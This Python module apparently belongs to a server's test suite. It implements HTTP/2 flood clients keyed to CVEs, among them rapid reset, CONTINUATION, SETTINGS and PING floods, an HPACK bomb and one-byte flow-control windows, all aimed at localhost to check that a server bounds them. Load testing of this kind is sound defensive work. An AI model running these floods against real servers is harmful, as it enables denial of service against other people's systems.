"""Clients that flood HTTP/2: each does one thing that costs them less than a server that has no bound for it."""

import multiprocessing
import os
import socket
import struct
import time
from dataclasses import dataclass
from typing import Callable, Iterator, List, Optional

from .frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MAX_FRAME,
    NEWEST_ENTRY,
    PING,
    PREFACE,
    PRIORITY,
    SETTINGS,
    frame,
    literal,
    opening,
    request,
    reset,
    window_update,
)

CONNECTIONS = 16
LARGE_KEY = "large"
LAST_STREAM = 2**31 - 1
PAUSE_SECONDS = 0.001
# A connection that was refused comes again this much later: the time of a round trip that an attacker would need.
AGAIN_SECONDS = 0.01
# What one connection sends, piece by piece; the first piece is what a client begins with.
Pieces = Iterator[bytes]
GET = request("GET", "/cache/flood")


def _streams(pieces: Callable[[int], bytes]) -> Pieces:
    """Hundreds of streams at a time, until their numbers are used up."""
    yield opening({})
    for first in range(1, LAST_STREAM - 400, 400):
        yield b"".join(pieces(stream) for stream in range(first, first + 400, 2))


def _over_and_over(start: bytes, piece: bytes) -> Pieces:
    yield start
    repeated = piece * max(1, 65_536 // len(piece))
    while True:
        yield repeated


def rapid_reset() -> Pieces:
    """CVE-2023-44487."""
    return _streams(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + reset(stream))


def reset_by_the_server() -> Pieces:
    """CVE-2025-8671: faults of a stream, for which the server resets it."""
    return _streams(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + window_update(stream, 0))


def continuation() -> Pieces:
    """CVE-2024-27316: a block of fields that never ends."""
    fields = b"".join(literal(b"x-%04d" % number, b"y" * 100) for number in range(140))
    return _over_and_over(opening({}) + frame(HEADERS, END_STREAM, 1, GET), frame(CONTINUATION, 0, 1, fields[:MAX_FRAME]))


def empty_continuation() -> Pieces:
    return _over_and_over(opening({}) + frame(HEADERS, END_STREAM, 1, GET), frame(CONTINUATION, 0, 1))


def settings_flood() -> Pieces:
    """CVE-2019-9515: each must be acknowledged, and nobody reads that."""
    return _over_and_over(opening({}), frame(SETTINGS, 0, 0))


def ping() -> Pieces:
    """CVE-2019-9512."""
    return _over_and_over(opening({}), frame(PING, 0, 0, b"12345678"))


def priority() -> Pieces:
    """CVE-2019-9513, of streams that are idle."""
    return _over_and_over(opening({}), b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", stream + 2, 5)) for stream in range(1, 400, 2)))


def empty_data() -> Pieces:
    """CVE-2019-9518: a body of nothing that never ends."""
    return _over_and_over(opening({}) + frame(HEADERS, END_HEADERS, 1, request("POST", "/cache")), frame(DATA, 0, 1))


def bomb() -> Pieces:
    """CVE-2016-6581: a field of 4,000 bytes that is named again by each of 16,000 bytes."""
    planted = GET + literal(b"x", b"y" * 4_000, is_indexed=True)
    yield opening({}) + frame(HEADERS, END_STREAM | END_HEADERS, 1, planted)
    for stream in range(3, LAST_STREAM, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + NEWEST_ENTRY * 16_000)


def closed_windows() -> Pieces:
    """CVE-2019-9511 and 9517: large answers for which there is room for a byte at a time."""
    large = request("GET", f"/cache/{LARGE_KEY}")
    yield opening({INITIAL_WINDOW_SIZE: 1})
    yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, large) for stream in range(1, 200, 2))
    while True:
        yield b"".join(window_update(stream, 1) for stream in range(1, 200, 2))


def unread() -> Pieces:
    """Large answers with all the room that there can be, and nobody reads them."""
    large = request("GET", f"/cache/{LARGE_KEY}")
    yield opening({INITIAL_WINDOW_SIZE: LAST_STREAM}) + window_update(0, LAST_STREAM - 65_535)
    for first in range(1, LAST_STREAM - 200, 200):
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, large) for stream in range(first, first + 200, 2))


def prefaces() -> Pieces:
    """Connections that do not say what they speak."""
    yield PREFACE[:-1]
    while True:
        yield b""


@dataclass(frozen=True)
class Flood:
    name: str
    pieces: Callable[[], Pieces]
    # Whether answers and acknowledgements are read, which keeps a server from ending the connection for what it owes.
    reads: bool = True


FLOODS: List[Flood] = [
    Flood("rapid reset", rapid_reset), Flood("resets by the server", reset_by_the_server), Flood("CONTINUATION", continuation),
    Flood("empty CONTINUATION", empty_continuation), Flood("SETTINGS", settings_flood), Flood("SETTINGS, unread", settings_flood, reads=False),
    Flood("PING", ping), Flood("PING, unread", ping, reads=False), Flood("PRIORITY", priority),
    Flood("empty DATA", empty_data), Flood("HPACK bomb", bomb), Flood("windows of a byte", closed_windows),
    Flood("unread answers", unread, reads=False), Flood("prefaces without an end", prefaces),
]


class _Client:
    """One connection, which comes again when it is closed, and sends what the sockets take."""

    def __init__(self, port: int, flood: Flood):
        self._port = port
        self._flood = flood
        self._connection: Optional[socket.socket] = None
        self._pieces: Pieces = iter(())
        self._left = memoryview(b"")
        self._again = 0.0
        self.sent = 0
        self.closed = 0

    def turn(self) -> bool:
        """Reads what is there, and sends what the socket takes; whether it took anything."""
        try:
            if self._connection is None:
                if time.monotonic() < self._again:
                    return False
                self._connection = self._open()
            if self._flood.reads:
                self._read(self._connection)
            if not self._left:
                self._left = memoryview(next(self._pieces, b""))
            count = self._connection.send(self._left) if self._left else 0
            self._left = self._left[count:]
            self.sent += count
            return count > 0
        except BlockingIOError:
            return False
        except OSError:
            self._close()
            return False

    def _open(self) -> socket.socket:
        connection = socket.socket()
        if not self._flood.reads:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.settimeout(2)
        connection.connect(("127.0.0.1", self._port))
        connection.setblocking(False)
        self._pieces = self._flood.pieces()
        self._left = memoryview(b"")
        return connection

    @staticmethod
    def _read(connection: socket.socket) -> None:
        """Raises OSError if the server has ended the connection."""
        try:
            if not connection.recv(1_048_576):
                raise ConnectionResetError
        except BlockingIOError:
            pass

    def _close(self) -> None:
        if self._connection is not None:
            self._connection.close()
        self._connection = None
        self._again = time.monotonic() + AGAIN_SECONDS
        self.closed += 1


class Flooding:
    """Clients in a process of their own, which leaves the processors to the others: an attacker has machines of his own."""

    def __init__(self, port: int, flood: Flood):
        context = multiprocessing.get_context("fork")
        self._sent, self._closed = context.Value("q", 0), context.Value("q", 0)
        self._process = context.Process(target=self._run, args=(port, flood), daemon=True)
        self._process.start()

    @property
    def sent_bytes(self) -> int:
        return self._sent.value

    @property
    def connections_closed(self) -> int:
        """How often the service ended a connection."""
        return self._closed.value

    def stop(self) -> None:
        self._process.terminate()
        self._process.join()

    def _run(self, port: int, flood: Flood) -> None:
        os.nice(10)
        clients = [_Client(port, flood) for _ in range(CONNECTIONS)]
        while True:
            if not any([client.turn() for client in clients]):
                time.sleep(PAUSE_SECONDS)
            self._sent.value = sum(client.sent for client in clients)
            self._closed.value = sum(client.closed for client in clients)
